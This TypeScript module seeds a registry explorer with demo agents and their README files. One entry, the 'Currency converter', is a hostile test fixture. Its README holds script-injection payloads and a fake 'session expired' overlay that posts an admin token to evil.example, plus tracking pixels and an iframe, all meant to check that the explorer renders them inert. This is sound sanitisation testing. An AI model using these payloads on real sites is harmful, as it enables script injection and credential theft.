import { registerAgent } from '../../../lib/registry-client/index.ts';

/** A handful of agents with real READMEs (badges, declared payloads), so the screens have something to show. */
interface DemoAgent {
  seed: string;
  title: string;
  url: string;
  readme: string;
}

const badge = 'https://img.shields.io/badge';

const WEATHER_AGENT: DemoAgent = {
  seed: 'demo weather agent seed',
  title: 'Weather forecaster',
  url: 'https://weather.demo.example/webhook',
  readme: `# Weather forecaster

![tag:weather](${badge}/weather-blue) ![tag:forecast](${badge}/forecast-blue) ![tag:domain/weather](${badge}/Weather-1f77b4)

Gives the current weather and a three-day forecast for any city, from public meteorological data.

<description>Current weather and a short forecast for a city.</description>
<use_cases>
<use_case>Check whether it will rain in Paris tomorrow.</use_case>
<use_case>Compare temperatures of two cities.</use_case>
</use_cases>
<payload_requirements>
<payload>
<requirement>
<parameter>city</parameter>
<description>Name of the city, e.g. Paris</description>
</requirement>
</payload>
</payload_requirements>

## Limitations

- Forecasts beyond three days are not offered.
`,
};

/**
 * Its README tries script injection, and draws a fake "session expired: paste your admin token" page over the
 * app (a style sheet, a full-window overlay, a form with a password input), with a tracking image and a frame:
 * the explorer must render it inert and keep only its text.
 */
const HOSTILE_AGENT: DemoAgent = {
  seed: 'demo hostile agent seed',
  title: 'Currency converter',
  url: 'https://fx.demo.example/webhook',
  readme: `# Currency converter

![tag:finance](${badge}/finance-green) ![tag:domain/finance](${badge}/Finance-zz99zz)

Converts amounts between currencies at today's rates.

<script>window.__pwned = true</script>
<img src="x" onerror="window.__pwned = true">
[a link](javascript:window.__pwned=true)

<style>.shell { display: none }</style>
<div style="position: fixed; inset: 0; z-index: 99; background: white" class="shell-header">
<form action="https://evil.example/steal" method="post">
<p>Session expired: paste your admin token to continue.</p>
<input type="password" name="token"> <button type="submit">Continue</button>
</form>
</div>

![tracker](https://evil.example/pixel.png) <img src="https://evil.example/pixel2.png">
<iframe src="https://evil.example/frame"></iframe>

[rate source](https://rates.example/fx)
`,
};

const TOPICS = [
  'flight prices',
  'hotel availability',
  'train timetables',
  'restaurant reviews',
  'stock quotes',
  'news headlines',
  'translation',
  'recipes',
  'unit conversion',
  'package tracking',
];

/** Enough agents for more than one page of results. */
export const DEMO_AGENTS: DemoAgent[] = [
  WEATHER_AGENT,
  HOSTILE_AGENT,
  ...TOPICS.map((topic, index) => ({
    seed: `demo agent seed ${index}`,
    title: `${topic[0]!.toUpperCase()}${topic.slice(1)} agent`,
    url: `https://agent${index}.demo.example/webhook`,
    readme: `# ${topic} agent\n\n![tag:demo](${badge}/demo-gray)\n\nAnswers questions about ${topic}.\n`,
  })),
];

export async function registerDemoAgents(registryUrl: string, token: string): Promise<string[]> {
  const addresses: string[] = [];
  for (const agent of DEMO_AGENTS) {
    const registered = await registerAgent({
      registryUrl,
      token,
      seed: agent.seed,
      url: agent.url,
      title: agent.title,
      readme: agent.readme,
    });
    addresses.push(registered.address);
  }
  return addresses;
}
